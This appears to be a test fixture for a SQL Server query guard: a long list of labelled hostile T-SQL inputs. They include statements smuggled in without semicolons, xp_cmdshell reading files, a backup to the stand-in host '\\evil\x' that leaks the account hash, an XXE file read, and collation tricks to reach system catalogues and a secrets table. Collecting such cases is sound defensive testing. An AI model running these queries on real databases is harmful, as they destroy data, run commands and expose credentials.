--- no-semicolon: statements need none between them
SELECT 1 DROP TABLE orders
--- no-semicolon-exec: runs a procedure
SELECT 1 EXEC sp_who
--- no-semicolon-line: the second stands in its own line
SELECT id FROM orders
DELETE orders
--- no-semicolon-shutdown: looks like an alias, is a statement
SELECT 1 SHUTDOWN
--- no-semicolon-checkpoint: looks like an alias, is a statement
SELECT id FROM orders CHECKPOINT
--- no-semicolon-reconfigure: looks like an alias, is a statement
SELECT id FROM orders RECONFIGURE
--- no-semicolon-revert: takes back the rights that the host took away
SELECT 1 REVERT
--- no-semicolon-return: looks like an alias, is a statement
SELECT 1 AS x RETURN
--- no-semicolon-break: looks like an alias, is a statement
SELECT 1 BREAK
--- no-semicolon-commit: ends the transaction that is rolled back
SELECT 1 COMMIT
--- no-semicolon-tran: another word for the same
SELECT 1 SAVE TRAN x
--- no-semicolon-setuser: changes the account
SELECT 1 SETUSER
--- no-semicolon-print: writes a message
SELECT 1 PRINT 'x'
--- no-semicolon-waitfor: holds a worker
SELECT 1 WAITFOR DELAY '00:10:00'
--- no-semicolon-goto: runs code
SELECT 1 GOTO x
--- no-semicolon-throw: raises an error of one's own
SELECT 1 THROW
--- if-else: runs code
IF 1 = 1 DELETE FROM orders
--- while: never ends
WHILE 1 = 1 SELECT 1
--- declare: keeps a variable
DECLARE @x INT = 1 SELECT @x
--- exec: runs a procedure
EXEC sp_configure 'xp_cmdshell', 1
--- execute-text: runs a text as a statement
EXECUTE ('DROP TABLE orders')
--- procedure-without-exec: the first statement of a text may leave EXEC out
sp_executesql N'DROP TABLE orders'
--- xp-cmdshell: runs a program
EXEC master..xp_cmdshell 'cat ${canary}'
--- xp-cmdshell-without-exec: runs a program
xp_cmdshell 'cat ${canary}'
--- xp-as-function: a procedure in the place of a function
SELECT xp_cmdshell('cat ${canary}')
--- xp-fileexist: looks at a file
SELECT master.dbo.xp_fileexist('${canary}')
--- sp-oacreate: makes an object
EXEC sp_OACreate 'x', 1
--- openrowset-bulk: reads a file
SELECT * FROM OPENROWSET(BULK '${canary}', SINGLE_CLOB) AS x
--- openrowset: opens a connection
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=127.0.0.1', 'SELECT 1') AS x
--- openquery: asks another server
SELECT * FROM OPENQUERY(other, 'SELECT 1') AS x
--- opendatasource: opens a connection
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=127.0.0.1').master.dbo.spt_values
--- openxml: keeps a document
SELECT * FROM OPENXML(1, '/a')
--- openjson: makes tables of texts
SELECT * FROM OPENJSON('[1]')
--- bulk-insert: reads a file
BULK INSERT orders FROM '${canary}'
--- backup: writes a file
BACKUP DATABASE master TO DISK = '${written}'
--- backup-unc: sends the account's hash to another machine
BACKUP DATABASE master TO DISK = '\\evil\x'
--- restore: reads a file
RESTORE FILELISTONLY FROM DISK = '${canary}'
--- dbcc: looks into the server
DBCC USEROPTIONS
--- kill: ends other sessions
KILL 53
--- use: changes the database
USE master
--- shutdown: stops the server
SHUTDOWN WITH NOWAIT
--- waitfor: holds a worker
WAITFOR DELAY '00:10:00'
--- truncate: removes all rows
TRUNCATE TABLE orders
--- merge: writes rows
MERGE orders AS t USING customers AS s ON 1 = 0 WHEN NOT MATCHED THEN DELETE;
--- delete-output: writes rows and shows them
DELETE FROM orders OUTPUT deleted.*
--- nested-dml: a change in the place of a table
SELECT * FROM (DELETE FROM orders OUTPUT deleted.id) AS x
--- grant: gives rights
GRANT SELECT ON secrets TO public
--- execute-as: takes another's rights
EXECUTE AS USER = 'dbo'
--- set: changes a setting
SET LOCK_TIMEOUT -1
--- set-quoted: takes quotes for texts
SET QUOTED_IDENTIFIER OFF SELECT "x"
--- begin-tran: opens a transaction
BEGIN TRAN
--- create-procedure: makes code
CREATE PROCEDURE p AS SELECT 1
--- create-assembly: loads code
CREATE ASSEMBLY a FROM '${canary}'
--- select-into-temporary: makes a table
SELECT * INTO #mine FROM orders
--- select-into-global: makes a table that others see
SELECT * INTO ##mine FROM orders
--- temporary-table: a table of the session
SELECT * FROM #mine
--- temporary-table-quoted: the same in brackets
SELECT * FROM [#mine]
--- variable-table: a variable in brackets
SELECT * FROM [@mine]
--- for-xml: writes a text of the whole result
SELECT * FROM orders FOR XML AUTO
--- for-json: writes a text of the whole result
SELECT * FROM orders FOR JSON AUTO
--- for-browse: takes locks
SELECT * FROM orders FOR BROWSE
--- for-system-time: reads what was deleted
SELECT * FROM orders FOR SYSTEM_TIME ALL
--- option-maxrecursion: takes the limit of a recursion away
WITH r AS (SELECT 1 AS n UNION ALL SELECT 3 - n FROM r) SELECT count(*) FROM r OPTION (MAXRECURSION 0)
--- option-label: decides how the server works
SELECT 1 OPTION (RECOMPILE)
--- table-hint: takes a lock
SELECT * FROM orders WITH (TABLOCKX, HOLDLOCK)
--- table-hint-nolock: reads what is not written yet
SELECT * FROM orders WITH (NOLOCK)
--- table-hint-old: takes a lock, without WITH
SELECT * FROM orders (TABLOCKX)
--- table-hint-alias: takes a lock in the shape of an alias with columns
SELECT * FROM orders o (TABLOCKX)
--- table-hint-as: the same with AS
SELECT * FROM orders AS o (XLOCK)
--- table-hint-join: the same in a join
SELECT * FROM customers c JOIN orders AS o (XLOCK, HOLDLOCK) ON 1 = 1
--- join-hint: decides how the server works
SELECT * FROM orders o INNER LOOP JOIN customers c ON o.region = c.region
--- pivot: makes columns
SELECT * FROM orders PIVOT (sum(amount) FOR region IN ([North])) AS p
--- tablesample: reads a part of a table
SELECT * FROM orders TABLESAMPLE (10 PERCENT)
--- four-parts: a table of another server
SELECT * FROM other.master.dbo.orders
--- three-parts: a table of another database
SELECT * FROM master.dbo.orders
--- three-parts-open: the schema left out
SELECT * FROM master..orders
--- four-parts-open: database and schema left out
SELECT * FROM other...orders
--- three-parts-brackets: the same in brackets
SELECT * FROM [msdb].[dbo].[orders]
--- sys-objects: the catalogue
SELECT * FROM sys.objects
--- sys-brackets: the catalogue
SELECT * FROM [sys].[sql_logins]
--- sys-full-width: wide letters, which many collations take for the plain ones
SELECT * FROM [ｓｙｓ].[objects]
--- sys-accent: an accent, which some collations take for nothing
SELECT * FROM [šys].[objects]
--- sys-space: spaces at the end count for nothing
SELECT * FROM "sys ".objects
--- sys-control: control characters count for nothing
SELECT * FROM [s${U+0001}ys].[objects]
--- sys-soft-hyphen: a character that collations pass over
SELECT * FROM [s${U+00AD}ys].[objects]
--- sysobjects: the catalogue of old versions, in every schema
SELECT * FROM sysobjects
--- sysobjects-schema: the same with a schema
SELECT * FROM dbo.sysprocesses
--- sysobjects-long-s: a letter that is folded to a plain one
SELECT * FROM [${U+017F}ysobjects]
--- information-schema: the catalogue
SELECT * FROM INFORMATION_SCHEMA.TABLES
--- dm-exec: what others run
SELECT * FROM sys.dm_exec_sql_text(0x01)
--- fn-trace: reads a file
SELECT * FROM sys.fn_trace_gettable('${canary}', default)
--- fn-xe-file: reads a file
SELECT * FROM fn_xe_file_target_read_file('${canary}', null, null, null)
--- fn-dblog: reads the log
SELECT * FROM fn_dblog(null, null)
--- generate-series: numbers without end
SELECT count(*) FROM GENERATE_SERIES(1, 1000000000)
--- string-split: makes tables of texts
SELECT * FROM STRING_SPLIT('a,b', ',')
--- cross-apply: calls a function for each row
SELECT * FROM orders CROSS APPLY somebody_s_function(id) AS x
--- object-definition: the text of code
SELECT OBJECT_DEFINITION(1)
--- object-id: looks a name up
SELECT OBJECT_ID('secrets')
--- suser: tells about the account
SELECT SUSER_SNAME()
--- host-name: tells about the machine
SELECT HOST_NAME()
--- server-property: tells about the server
SELECT SERVERPROPERTY('MachineName')
--- db-name: tells about the server
SELECT DB_NAME()
--- current-user: tells about the account
SELECT CURRENT_USER
--- system-user: tells about the account
SELECT SYSTEM_USER
--- user: tells about the account
SELECT USER
--- version: tells about the server
SELECT @@VERSION
--- identity: tells about the session
SELECT SCOPE_IDENTITY()
--- next-value-for: changes a counter
SELECT NEXT VALUE FOR counter
--- newid: something else each time
SELECT NEWID()
--- pwdencrypt: works on passwords
SELECT PWDENCRYPT('x')
--- decrypt: opens what is sealed
SELECT DECRYPTBYPASSPHRASE('x', 0x00)
--- session-context: keeps state
SELECT SESSION_CONTEXT(N'x')
--- eventdata: tells about the server
SELECT EVENTDATA()
--- replicate: a text of any length
SELECT len(REPLICATE(CAST('x' AS VARCHAR(MAX)), 2000000000))
--- space: a text of any length
SELECT len(SPACE(1000000000))
--- cast-to-xml: a type that reads a document
SELECT CAST('<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>' AS XML)
--- convert-to-xml: the same with CONVERT
SELECT CONVERT(XML, '<x/>', 2)
--- cast-to-sql-variant: a type that may be anything
SELECT CAST(1 AS SQL_VARIANT)
--- xml-method: runs a query in a text
SELECT x.value('(/a)[1]', 'int') FROM (SELECT 1 AS x) AS t
--- geometry-method: calls into a type
SELECT geometry::STGeomFromText('POINT (1 1)', 0)
--- hierarchy-method: calls a method of a type
SELECT hierarchyid::GetRoot()
--- contains: asks another engine
SELECT * FROM orders WHERE CONTAINS(region, 'x')
--- dollar-action: a name of the server's own
SELECT $IDENTITY FROM orders
--- money-text: a number with a sign of money
SELECT $1
--- hex-number: a text by its bytes
SELECT 0x73656372657473
--- national-hidden: a prefix with a comment between
SELECT N/**/'x' , (SELECT max(secret) FROM secrets)
--- line-continuation: a backslash that takes a line break away
SELECT 'a\
b'
--- line-continuation-national: the same with a prefix
SELECT N'a\
b'
--- bracket-in-brackets: the name ends later than it looks
SELECT [x]]], (SELECT max(secret) FROM secrets) AS [y] FROM orders
--- bracket-open: a name without an end
SELECT [x FROM orders
--- jdbc-escape: the driver's own syntax
SELECT {fn USER()}
--- jdbc-call: the driver's own syntax
{call sp_who}
--- label: a place to jump to
x: SELECT 1
--- go: a client's command
SELECT 1
GO
DROP TABLE orders
--- old-outer-join: read one way or the other by the compatibility level
SELECT * FROM orders o, customers c WHERE o.region *= c.region
--- compute: more than one result
SELECT id FROM orders COMPUTE sum(id)
--- receive: takes messages away
RECEIVE * FROM queue
--- secret-in-top: hidden in the number of rows
SELECT TOP (SELECT count(*) FROM secrets) id FROM orders
--- secret-in-apply: hidden in an expression for each row
SELECT * FROM orders CROSS APPLY (SELECT * FROM secrets) AS s
--- secret-in-brackets: the same in brackets
SELECT * FROM [secrets]
--- secret-by-schema: goes round the list of names
SELECT * FROM dbo.secrets
--- secret-upper-case: the same table under most collations
SELECT * FROM SECRETS
--- secret-as-shadow-upper-case: a name of its own that differs by case only
WITH secrets AS (SELECT 1 AS x) SELECT * FROM Secrets
--- cross-joins: the product of everything with everything
SELECT count_big(*) AS n FROM orders a, orders b, orders c, orders d, orders e, orders f, orders g, orders h, orders i, orders j, orders k, orders l, orders m WHERE a.id + m.id > 0
